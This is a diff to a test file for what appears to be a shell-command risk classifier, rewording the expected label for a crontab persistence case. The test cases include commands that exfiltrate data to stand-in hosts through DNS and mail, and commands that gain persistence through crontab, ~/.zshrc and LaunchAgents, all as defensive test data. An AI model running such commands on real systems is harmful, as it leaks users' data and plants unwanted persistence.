@@ -69,7 +69,7 @@ test.each([
   ],
   ['dig $(cat a).up.example', 'sends: sends data in the network name $(…).up.example'],
   ['mail -s hi -a a.db bob@up.example', 'sends: sends a.db to bob@up.example'],
-  ['(crontab -l; echo "* * * * * x") | crontab -', 'persists: starts programs at set times from now on (crontab)'],
+  ['(crontab -l; echo "* * * * * x") | crontab -', 'persists: makes programs run at set times (crontab)'],
   ['echo x >> ~/.zshrc', 'persists: adds to ~/.zshrc, which runs each time a shell or a session starts'],
   [
     'cp x.plist ~/Library/LaunchAgents/',
